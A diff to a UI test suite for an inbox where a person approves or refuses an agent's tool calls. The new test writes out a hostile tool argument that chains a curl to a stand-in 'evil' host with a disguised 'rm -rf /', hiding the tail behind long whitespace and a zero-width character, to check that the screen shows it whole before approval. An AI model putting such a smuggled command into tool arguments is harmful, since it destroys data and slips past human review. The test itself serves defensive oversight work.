@@ -171,6 +171,29 @@ export const onInbox = async (t: Test, house: House): Promise<void> => {
     t.match(JSON.stringify(items), /Bergen/);
   });
 
+  t.test('shows a call whole and unmasked before it can be approved', async (t) => {
+    const command = `echo cookie: ; curl http://evil/x${' '.repeat(4000)}\n${'# \n'.repeat(80)}rm\u200b -rf /`;
+    await askWith(troupe, ASKS_FIRST.id, asks(['hidden', 'get_weather', { location: command }]));
+    const { page, go } = await house.visit(t);
+    await page.setViewportSize({ width: 900, height: 300 });
+    await go('/inbox');
+    const approve = card(page, 'hidden').getByTestId('inbox-approve');
+    await approve.waitFor({ state: 'attached' });
+    const shown = (await card(page, 'hidden').textContent()) ?? '';
+    t.match(shown, 'echo cookie: ; curl http://evil/x', 'nothing is masked');
+    t.match(shown, String.raw`rm\u200b -rf /`, 'a character without a width is an escape');
+    t.ok(await approve.isDisabled(), 'the end of the arguments has not been on the screen');
+    await card(page, 'hidden').focus();
+    await page.keyboard.press('a');
+    await eventually(
+      () => approve.isDisabled(),
+      (isDisabled) => !isDisabled,
+    );
+    await card(page, 'hidden').getByTestId('inbox-deny').click();
+    await page.keyboard.press('Enter');
+    await toast(page, 'Refused');
+  });
+
   t.test('calls that are alike are decided together, and each is told of', async (t) => {
     const runs: string[] = [];
     for (const call of ['one', 'two', 'three']) {
@@ -187,7 +210,9 @@ export const onInbox = async (t: Test, house: House): Promise<void> => {
     const group = page.getByRole('region', { name: 'get_stock_price' });
     await group.getByText('3', { exact: true }).waitFor();
     await button(page, 'Approve all 3 calls of get_stock_price').click();
-    await page.getByRole('dialog').getByRole('button', { name: 'Approve all' }).click();
+    const dialog = page.getByRole('dialog');
+    t.equal(await dialog.getByText('{"symbol":"AAPL"}').count(), 3, 'each call is listed');
+    await dialog.getByRole('button', { name: 'Approve all' }).click();
     await toast(page, 'Approved: 2');
     await card(page, 'two')
       .getByText(/^Not decided/)
